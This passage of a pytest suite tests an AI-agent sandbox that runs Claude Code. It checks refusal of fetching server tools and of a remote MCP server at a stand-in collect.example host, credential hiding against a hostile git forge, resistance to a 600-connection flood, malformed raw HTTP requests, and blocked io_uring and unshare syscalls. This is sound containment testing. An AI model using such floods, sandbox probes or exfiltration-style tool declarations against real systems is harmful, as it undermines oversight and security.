    "batch": {"requests": [{"custom_id": "a", "params": body_with(tools=[{"type": "web_fetch_20250910",
                                                                          "name": "web_fetch"}])}]},
}


def test_model_requests_declaring_fetching_server_tools_are_refused(web, model_server):
    for name, body in FETCHING.items():
        status, answer = messages_request(web, body)
        assert status == 400, (name, answer)
        # The API's own error shape, so Claude Code shows the reason as the API's answer.
        assert answer["type"] == "error" and "rule model-server-tool" in answer["error"]["message"], (name, answer)
    assert model_server.messages() == []
    refusals = [r for r in bundle_records(web) if r.get("rule") == "model-server-tool"]
    assert len(refusals) >= len(FETCHING) and {r["status"] for r in refusals} == {400}


def test_what_claude_code_sends_by_default_still_reaches_the_model(web, model_server):
    ordinary = body_with(tools=[{"name": "Bash", "description": "run", "input_schema": {"type": "object"}},
                                {"type": "web_search_20250305", "name": "web_search", "max_uses": 8}])
    status, answer = messages_request(web, ordinary)
    assert status == 200, answer
    assert [m["tools"][1]["type"] for m in model_server.messages()] == ["web_search_20250305"]


def test_a_bottle_that_allows_web_fetch_may_declare_it(fetcher, model_server):
    status, answer = messages_request(fetcher, FETCHING["web_fetch"])
    assert status == 200, answer
    assert len(model_server.messages()) == 1
    status, answer = messages_request(fetcher, FETCHING["mcp"])  # what it did not allow stays refused
    assert status == 400 and "rule model-server-tool" in answer["error"]["message"], answer


@pytest.fixture
def claude_bottle(tmp_path, outbound_env, internet_egress, monkeypatch):
    for key, value in {**outbound_env, "ANTHROPIC_API_KEY": MODEL_KEY}.items():
        monkeypatch.setenv(key, value)
    monkeypatch.setenv("CLAUDE_CONFIG_DIR", str(tmp_path / "host-claude"))
    manifest = write_manifest(tmp_path, {"bottles": {"dev": {"egress": internet_egress}},
                                         "agents": {"demo": {"skills": [], "bottle": "dev"}}})
    with bottle_of(manifest, "demo") as bottle:
        yield bottle


def declared_tool_types(model_server) -> set[str]:
    return {tool.get("type", "custom") for body in model_server.messages() for tool in body.get("tools") or []}


def test_the_real_claude_searches_the_web_through_the_model_host(claude_bottle, model_server):
    model_server.set_script([{"tool_use": {"name": "WebSearch", "input": {"query": "sealed sandboxes"}}},
                             "searched", "done"])
    result = claude_bottle.exec(claude_bottle.claude_argv(["search the web", "--output-format", "json"],
                                                          interactive=False))
    assert result.returncode == 0, result.stderr.decode() + result.stdout.decode()
    types = declared_tool_types(model_server)
    assert any(kind.startswith("web_search_") for kind in types), types
    assert not [r for r in bundle_records(claude_bottle) if r.get("rule") == "model-server-tool"]


def test_the_real_claude_told_to_declare_a_remote_mcp_server_gets_a_clear_refusal(claude_bottle, model_server):
    extra = json.dumps({"mcp_servers": [{"type": "url", "url": "https://collect.example/mcp", "name": "x"}]})
    result = claude_bottle.exec(["env", f"CLAUDE_CODE_EXTRA_BODY={extra}",
                                 *claude_bottle.claude_argv(["hi"], interactive=False)])
    said = (result.stdout + result.stderr).decode()
    assert result.returncode != 0 and "rule model-server-tool" in said and "mcp" in said, said
    assert "authenticate" not in said  # not mistaken for a failed login
    assert model_server.messages() == []


# -- the git gate's words ----------------------------------------------------------------------------


def test_a_forge_echoing_credentials_hands_the_agent_nothing_of_the_gates_token(tmp_path, git_forge, outbound_env,
                                                                                internet_egress, monkeypatch):
    for key, value in outbound_env.items():
        monkeypatch.setenv(key, value)
    monkeypatch.setenv("FORGE_TOKEN", git_forge.token)
    for name in ("sealed-project", "echo-push"):
        seed_bare(git_forge.repos / f"{name}.git", tmp_path, {"main": 1})
    remote = {"token_env": "FORGE_TOKEN", "push": {"allow": ["refs/heads/*"]}}
    manifest = write_manifest(tmp_path, {
        "bottles": {"dev": {"egress": internet_egress, "git": {
            "honest": {"url": git_forge.url("sealed-project"), **remote},
            "hostile": {"url": git_forge.url("echo-push"), **remote},
            "deaf": {"url": git_forge.url("echo-all-deaf"), **remote}}}},
        "agents": {"echoed": {"bottle": "dev"}}})
    token = git_forge.token
    basic = base64.b64encode(f"x-access-token:{token}".encode()).decode()
    with bottle_of(manifest, "echoed") as bottle:
        gate = f"http://{bottle.plan.network.bundle_ip}:{bottle.plan.git_gate.port}"
        # The honest forge: clone and push work as ever.
        gate_clone(bottle, "honest")
        pushed = in_clone(bottle, "git commit -q --allow-empty -m ok && git push -q origin HEAD:refs/heads/bottle/ok")
        assert pushed.ok, pushed.text()
        # The hostile forge answers every push with an error quoting the gate's Authorization header.
        hostile = bottle.exec(["sh", "-c", f"git clone -q {gate}/hostile.git h && cd h && git -c user.name=a "
                                           "-c user.email=a@b.test commit -q --allow-empty -m x && "
                                           "git push origin HEAD:refs/heads/bottle/x 2>&1"])
        # A forge that quotes it for every request cannot even be read.
        deaf = bottle.exec(["sh", "-c", f"git ls-remote {gate}/deaf.git 2>&1; "
                                        f"curl -s '{gate}/deaf.git/info/refs?service=git-upload-pack'"])
    said = hostile.text() + deaf.text()
    assert not hostile.ok and "the upstream of hostile refused the push" in hostile.text(), hostile.text()
    assert "the upstream of deaf could not be read" in deaf.text(), deaf.text()
    assert token not in said and basic not in said and "access denied" not in said, said
    # The forge's own words are in the bottle's git log for the user, without the credential.
    failures = [r for r in git_records("echoed") if r.get("rule") == "upstream"]
    logged = json.dumps(failures)
    assert {r["remote"] for r in failures} == {"hostile", "deaf"}, failures
    assert "access denied" in logged and token not in logged and basic not in logged


# -- the gate and the supervisor under a flood --------------------------------------------------------

#: From the agent: hold COUNT idle connections to each of the gate and the supervisor, then use both.
FLOOD = r'''
import json, select, socket, subprocess, sys, time, urllib.request
host, gate_port, hook_port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
held = []
for port in (gate_port, hook_port):
    for _ in range(count):
        held.append(socket.create_connection((host, port), timeout=10))
ls = subprocess.run(["git", "ls-remote", f"http://{host}:{gate_port}/home.git"], capture_output=True, timeout=60)
hook = urllib.request.urlopen(urllib.request.Request(
    f"http://{host}:{hook_port}/hook?event=Notification", data=b'{"message": "still here"}',
    headers={"content-type": "application/json"}), timeout=30).read().decode()
# Every idle connection is closed by the bundle in time; none is answered.
still_open, deadline = set(held), time.monotonic() + 120
while still_open and time.monotonic() < deadline:
    readable, _, _ = select.select(list(still_open), [], [], 1.0)
    for sock in readable:
        if sock.recv(1) == b"":
            still_open.discard(sock)
print(json.dumps({"held": len(held), "ls_remote": ls.returncode, "refs": ls.stdout.decode(), "hook": hook,
                  "still_open": len(still_open)}))
'''


def test_idle_connections_cannot_starve_the_gate_or_the_supervisor(tmp_path):
    home = seed_bare(tmp_path / "home.git", tmp_path, {"main": 1})
    manifest = write_manifest(tmp_path, {"bottles": {"dev": {"git": {"home": {"url": str(home)}}}},
                                         "agents": {"flooder": {"bottle": "dev", "supervise": {"mode": "audit"}}}})
    with bottle_of(manifest, "flooder") as bottle:
        plan = bottle.plan
        out = bottle.exec(["python3", "-c", FLOOD, plan.network.bundle_ip, str(plan.git_gate.port),
                           str(plan.supervise.port), "300"])
        assert out.returncode == 0, out.stderr.decode()
        result = json.loads(out.stdout)
        # Afterwards the bundle still serves a well-behaved client at once.
        again = bottle.exec(["git", "ls-remote", f"http://{plan.network.bundle_ip}:{plan.git_gate.port}/home.git"])
    assert result["held"] == 600
    assert result["ls_remote"] == 0 and "refs/heads/main" in result["refs"], result
    assert result["hook"] == "{}", result
    assert result["still_open"] == 0, result
    assert again.returncode == 0 and b"refs/heads/main" in again.stdout


# -- the gate's and the supervisor's own pages ---------------------------------------------------------

#: From the agent: raw requests to a port of the bundle (argv: host, port, then each request with \r\n escapes,
#: ``{long}`` standing for 70,000 bytes); prints each answer, as JSON.
RAW_ASKS = r'''
import json, socket, sys
host, port, answers = sys.argv[1], int(sys.argv[2]), []
for request in sys.argv[3:]:
    data = request.replace("{long}", "m" * 70000).encode().decode("unicode_escape").encode("latin-1")
    with socket.create_connection((host, port), timeout=10) as sock:
        sock.sendall(data)
        out = b""
        try:
            while chunk := sock.recv(65536):
                out += chunk
        except OSError:
            pass
    answers.append(out.decode("latin-1"))
print(json.dumps(answers))
'''
#: Requests http.server cannot take, each carrying the word "marker" where its stock page would quote it.
UNTAKEN = ["GARBAGE-marker /x\\r\\n\\r\\n", "PUT /marker?q=1 HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n",
           "GET /marker HTTP/9.9\\r\\n\\r\\n", "GET /marker{long} HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n",
           "POST /hook HTTP/1.1\\r\\nHost: a\\r\\nX-marker: {long}\\r\\n\\r\\n"]


def test_the_gate_and_the_supervisor_quote_nothing_of_a_request_they_cannot_take(tmp_path):
    home = seed_bare(tmp_path / "home.git", tmp_path, {"main": 1})
    manifest = write_manifest(tmp_path, {"bottles": {"dev": {"git": {"home": {"url": str(home)}}}},
                                         "agents": {"asker": {"bottle": "dev", "supervise": {"mode": "audit"}}}})
    with bottle_of(manifest, "asker") as bottle:
        plan = bottle.plan
        ip = plan.network.bundle_ip
        pages = {port: json.loads(bottle.exec(["python3", "-c", RAW_ASKS, ip, str(port), *UNTAKEN]).stdout)
                 for port in (plan.git_gate.port, plan.supervise.port)}
        # The benign counterparts: git through the gate, and a hook event, are answered as ever.
        listed = bottle.exec(["git", "ls-remote", f"http://{ip}:{plan.git_gate.port}/home.git"])
        hook = bottle.exec(["curl", "-sS", "--noproxy", "*", "-D", "-", "-H", "content-type: application/json",
                            "--data", '{"message": "still here"}',
                            f"http://{ip}:{plan.supervise.port}/hook?event=Notification"]).stdout.decode()
    for port, answers in pages.items():
        assert len(answers) == len(UNTAKEN)
        for request, answer in zip(UNTAKEN, answers):
            assert "the request was not served (HTTP 4" in answer or "the request was not served (HTTP 5" in answer, \
                (port, request, answer)
            assert "marker" not in answer.lower() and "GARBAGE" not in answer, (port, request, answer)
            assert "Python" not in answer and "BaseHTTP" not in answer, (port, request, answer)
    assert listed.returncode == 0 and b"refs/heads/main" in listed.stdout
    assert hook.startswith("HTTP/1.1 200 ") and hook.rstrip().endswith("{}"), hook
    assert "Python" not in hook and "Server: bottle-supervisor\r\n" in hook, hook


#: From the agent in a rehearsal, through the proxy to the scripted model: a method it has no handler for, a path
#: it does not serve, each carrying "marker" where a stock page would quote it; then an ordinary Messages call.
MODEL_ASKS = """
for ask in "-X PROPFIND https://api.anthropic.com/v1/marker" "https://api.anthropic.com/v1/marker?q=marker" \\
           "-H content-type:application/json --data {\\"model\\":\\"m\\",\\"max_tokens\\":8,\\"messages\\":[]} \\
            https://api.anthropic.com/v1/messages"; do
  curl -sS --max-time 20 -D - $ask; echo; echo "--- end of answer ---"
done
"""


def test_the_scripted_models_own_pages_quote_nothing_and_name_no_version(tmp_path, outbound_env, monkeypatch):
    for key, value in {**outbound_env, "ANTHROPIC_API_KEY": MODEL_KEY}.items():
        monkeypatch.setenv(key, value)
    script_file = tmp_path / "script.json"
    script_file.write_text(json.dumps(["scripted answer"]))
    manifest = write_manifest(tmp_path, {"bottles": {"dev": {}}, "agents": {"rehearser": {"bottle": "dev"}}})
    with bottle_of(manifest, "rehearser", model_script=script_file) as bottle:
        out = bottle.exec(["sh", "-c", MODEL_ASKS]).stdout.decode("latin-1")
    unhandled, unserved, answered, _ = out.split("--- end of answer ---")
    assert "HTTP/1.1 501 " in unhandled or "HTTP/2 501" in unhandled, unhandled
    assert "bottle-model-script: the request was not served (HTTP 501 Not Implemented)." in unhandled, unhandled
    assert '"message": "not found"' in unserved and " 404" in unserved, unserved
    for page in (unhandled, unserved):
        assert "marker" not in page.lower() and "PROPFIND" not in page, page
        assert "Python" not in page and "BaseHTTP" not in page, page
    # The benign counterpart: the script's answer, from a server naming itself and no version.
    assert "scripted answer" in answered and "server: bottle-model-script\r\n" in answered.lower(), answered


# -- io_uring --------------------------------------------------------------------------------------

IO_URING = r'''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
params = ctypes.create_string_buffer(120)
ring = libc.syscall(425, 8, params)                 # io_uring_setup
print("io_uring_setup", ring, ctypes.get_errno())
print("unshare", libc.syscall(272, 0x10000000), ctypes.get_errno())   # the engine's default still refuses it
with open("/workspace/ordinary.txt", "w") as handle:
    handle.write("ordinary work")
print("file", open("/workspace/ordinary.txt").read())
'''


def test_io_uring_is_refused_in_the_agent_and_ordinary_work_runs(web):
    out = web.exec(["python3", "-c", IO_URING])
    assert out.returncode == 0, out.stderr.decode()
    lines = dict(line.split(" ", 1) for line in out.stdout.decode().splitlines())
    assert lines["io_uring_setup"] == "-1 38"  # ENOSYS: as if the kernel had no io_uring
    assert lines["unshare"] == "-1 1"  # EPERM: the rest of the engine's default profile is in force
    assert lines["file"] == "ordinary work"
    committed = web.exec(["sh", "-c", "git init -q /tmp/x && git -C /tmp/x -c user.name=a -c user.email=a@b.test "
                                      "commit -q --allow-empty -m ok && git -C /tmp/x log --format=%s"])
    assert committed.stdout.decode().strip() == "ok", committed.stderr.decode()
